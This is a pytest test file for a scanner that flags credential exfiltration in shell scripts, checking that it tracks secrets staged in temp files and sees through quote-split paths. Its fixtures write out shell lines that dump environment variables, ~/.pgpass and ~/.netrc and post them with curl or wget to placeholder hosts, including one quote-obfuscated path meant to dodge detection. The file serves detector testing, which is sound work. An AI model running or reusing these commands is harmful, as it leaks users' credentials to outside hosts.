"""A shell script names a file the same way twice: written under a path with unknown pieces
(``/tmp/.job-$1``, ``"$TMPDIR/ctx.$$"``) and read or uploaded under that same spelling, it is the same
file; and a parameter's default word has its quotes removed as the shell removes them
(``${F:-$HOME/.n""etrc}`` is ``$HOME/.netrc``)."""

from __future__ import annotations

from pathlib import Path

import pytest

from behaviour_files import scan_errors

SPELLED = {
    "environment staged under the job's name then uploaded": (
        "#!/bin/sh\nenv > /var/tmp/.ctx-$JOB\n"
        'wget -q --post-file=/var/tmp/.ctx-$JOB "https://intake.cronwatch-metrics.example.net/r"\n',
        3,
    ),
    "environment staged under the shell's pid then piped": (
        '#!/bin/bash\nprintenv > "$TMPDIR/run.$$.txt"\n'
        'cat "$TMPDIR/run.$$.txt" | curl -s --data-binary @- https://intake.cronwatch-metrics.example.net/p\n',
        3,
    ),
    "a secret copied under an argument's name then posted": (
        '#!/bin/sh\ncat ~/.pgpass > "/tmp/pg-$1"\ncurl -s -F "f=@/tmp/pg-$1" http://203.0.113.44/u\n',
        3,
    ),
    "a default path with quotes inside": (
        '#!/bin/sh\nrc="${NETRC_FILE:-$HOME/.n""et\'\'rc}"\ncurl -s --data-binary @"$rc" https://198.51.100.23/c\n',
        3,
    ),
}


@pytest.mark.parametrize("case", sorted(SPELLED))
def test_a_file_named_the_same_way_twice_carries_what_was_written(tmp_path: Path, case: str) -> None:
    source, line = SPELLED[case]
    errors = scan_errors(tmp_path, {"scripts/job.sh": source})
    assert ("CREDENTIAL_EXFILTRATION", "scripts/job.sh", line) in errors


def test_a_report_staged_under_a_variable_name_and_uploaded_is_no_error(tmp_path: Path) -> None:
    source = (
        '#!/bin/sh\ndu -sh /srv/backups > "/tmp/usage-$1"\n'
        'curl -s --data-binary @"/tmp/usage-$1" https://metrics.example.org/disk\n'
        'cfg="${APP_CONFIG:-./con""fig/app.toml}"\ncurl -s -F "c=@$cfg" https://metrics.example.org/cfg\n'
    )
    assert not scan_errors(tmp_path, {"scripts/job.sh": source})
